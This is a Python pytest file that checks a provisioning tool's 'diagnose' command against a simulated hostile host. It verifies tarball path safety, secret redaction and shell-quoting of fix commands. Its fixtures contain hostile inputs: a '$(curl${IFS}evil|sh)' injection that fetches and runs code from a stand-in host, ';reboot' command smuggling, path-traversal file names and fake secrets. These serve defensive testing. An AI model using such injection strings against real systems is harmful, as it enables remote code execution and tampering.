"""What a host sends `provision diagnose` is untrusted (issue 28, item 8): tarball member
names come from the product's own plan, never from keys a host returns; everything written
or printed is redacted; every printed Fix: command shell-quotes what the host supplied; the
controller bounds what it takes from one host. The playbook runner is replaced by a host
that answers as an attacker would, so everything after it is the product's own code."""

from __future__ import annotations

import json
import shlex
import tarfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from provisioner.cli import app
from provisioner.engine import commands
from provisioner.engine import diagnose as engine
from provisioner.engine.runner import HostRun, PlaybookRun

from .test_host_text import PAYLOAD, assert_inert

SECRETS = ("s3cr3t-token", "hunter2", "AAAAB3NzaC1yc2E", "reg-pass-1")
PEM = "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAAB3NzaC1yc2E\n-----END OPENSSH PRIVATE KEY-----\n"


def cmd(stdout: str = "", rc: int = 0, argv=("x",)) -> dict:
    return {"argv": list(argv), "rc": rc, "stdout": stdout, "stderr": "", "timed_out": False, "missing": False,
            "skipped": "", "cut": False, "lines": len(stdout.splitlines())}


def hostile_reply() -> dict:
    """A node whose root answers the diagnose play itself."""
    state = {"recorded": True, "registry_password": "reg-pass-1", "differences": [
        {"item": "unit $(curl${IFS}evil|sh).service enabled", "recorded": "enabled", "now": "disabled"},
        {"item": "hold removed: nvidia-dkms;reboot", "recorded": "held", "now": "not held"}]}
    collected = {"commands": {
        "failed_units": cmd(f"x.service loaded failed failed token=s3cr3t-token {PAYLOAD}\n"),
        "unit_states": cmd("Id=a;reboot.service\nLoadState=loaded\nActiveState=failed\nResult=exit-code\n"),
        "journal_units": cmd("a;reboot[1]: password=hunter2\n"),
        "../../../../tmp/escaped": cmd("owned\n"),
        "/etc/cron.d/evil": cmd("owned\n")},
        "files": {"/etc/apt/preferences.d/cuda": "Pin: version 580.*\n" + PEM,
                  "/etc/apt/preferences.d/../../../../tmp/escaped-file": "owned\n",
                  "../../../../tmp/escaped-too": "owned\n", "/sys/module/nvidia/version": "580.95.05\n"}}
    return {"provisioner_state": state, "provisioner_diagnose": collected}


def fake_runner(reply: dict, seen: list | None = None):
    def run(name, inventory_dir, run_dir, **kw):
        if seen is not None:
            seen.append(kw["extravars"])
        return PlaybookRun(name, "successful", 0, {"node1": HostRun("node1", ok=2, reported=reply)}, run_dir)
    return run


@pytest.fixture
def inventory(tmp_path: Path) -> Path:
    path = tmp_path / "hosts.ini"
    path.write_text("node1\n")
    return path


def test_tarball_member_names_come_from_the_plan_and_extract_inside_their_folder(tmp_path, inventory, monkeypatch):
    monkeypatch.setattr(engine, "run_playbook", fake_runner(hostile_reply()))
    result = engine.diagnose(commands.prepare("debian12-lab", inventory), runs_dir=tmp_path / "runs")
    with tarfile.open(result.tarball) as tar:
        names = tar.getnames()
        # What `tar -xzf` does, no filter of its own; deep enough that an escape still lands under tmp_path.
        tar.extractall(tmp_path / "a" / "b" / "c" / "d" / "e" / "out", filter="fully_trusted")
    assert all(n.startswith("diagnose/") and ".." not in n.split("/") for n in names), names
    assert not any("escaped" in n or "cron" in n for n in names), names
    assert {"diagnose/node1/failed_units.txt", "diagnose/node1/files/etc__apt__preferences.d__cuda",
            "diagnose/node1/files/sys__module__nvidia__version"} <= set(names)
    assert not list(tmp_path.rglob("escaped*"))


def test_everything_written_is_redacted_and_every_fix_is_shell_quoted(tmp_path, inventory, monkeypatch):
    monkeypatch.setattr(engine, "run_playbook", fake_runner(hostile_reply()))
    result = engine.diagnose(commands.prepare("debian12-lab", inventory), runs_dir=tmp_path / "runs")
    with tarfile.open(result.tarball) as tar:
        written = {m.name: tar.extractfile(m).read().decode() for m in tar.getmembers()}
    written["summary.md (run folder)"] = (result.collection.run_dir / "summary.md").read_text()
    for name, text in written.items():
        assert not any(s in text for s in SECRETS), (name, text)
    findings = json.loads(written["diagnose/node1/findings.json"])
    assert "Pin: version 580.*" in written["diagnose/node1/files/etc__apt__preferences.d__cuda"]
    fixes = {f["title"]: f["fix"] for f in findings["findings"]}
    unit = fixes["unit $(curl${IFS}evil|sh).service was disabled since the last converge"]
    assert unit.startswith("systemctl enable --now '$(curl${IFS}evil|sh).service' ")
    assert fixes["unit a;reboot.service has failed"].endswith("then systemctl restart 'a;reboot.service'")
    hold = next(fix for title, fix in fixes.items() if "no longer held" in title)
    assert hold.startswith("apt-mark hold 'nvidia-dkms;reboot' ")
    # Pasted, each is the one command it says, with the host's word as one argument.
    assert shlex.split(hold.split(" (")[0]) == ["apt-mark", "hold", "nvidia-dkms;reboot"]
    assert_inert(written["diagnose/node1/failed_units.txt"] + written["diagnose/summary.md"])


def test_the_printed_summary_and_json_are_redacted_and_inert(tmp_path, inventory, monkeypatch):
    monkeypatch.setattr(engine, "run_playbook", fake_runner(hostile_reply()))
    runner = CliRunner()
    for extra in ([], ["--json"]):
        result = runner.invoke(app, ["diagnose", "-p", "debian12-lab", str(inventory), "--runs-dir",
                                     str(tmp_path / "runs"), *extra], env={"COLUMNS": "400"})
        assert result.exit_code == 2, result.output  # a fault found
        assert not any(s in result.output for s in SECRETS), result.output
        if extra:
            data = json.loads(result.stdout)  # the tarball line goes to stderr
            evidence = [e for f in data["hosts"][0]["findings"] for e in f["evidence"]]
            assert any(PAYLOAD in e for e in evidence)  # kept as data: JSON escapes it on the way out
            assert "\x1b" not in result.stdout and "\u202e" not in result.stdout
        else:
            assert_inert(result.output)


def test_the_controller_keeps_nothing_of_a_host_that_sends_more_than_its_bound(tmp_path, inventory, monkeypatch):
    flood = {"provisioner_state": {"recorded": True},
             "provisioner_diagnose": {"commands": {"kernel_log": cmd("Xid " * (engine.REPLY_ALLOWANCE // 2))}}}
    seen: list = []
    monkeypatch.setattr(engine, "run_playbook", fake_runner(flood, seen))
    result = engine.diagnose(commands.prepare("debian12-lab", inventory), runs_dir=tmp_path / "runs",
                             max_host_bytes=1000)
    assert seen[0]["provisioner_diagnose_max_bytes"] == 1000  # what the host's module is told
    (host,) = result.hosts
    assert host.status == "failed" and result.exit_code == 1
    assert "more than the 1049576 diagnose takes from one host" in host.findings[0].evidence[0]
    with tarfile.open(result.tarball) as tar:
        assert "diagnose/node1/kernel_log.txt" not in tar.getnames()
    # Within the bound (the evidence plus room for the state and the commands' metadata), it is kept.
    monkeypatch.setattr(engine, "run_playbook", fake_runner(flood))
    kept = engine.diagnose(commands.prepare("debian12-lab", inventory), runs_dir=tmp_path / "runs")
    assert kept.hosts[0].status == "ok"
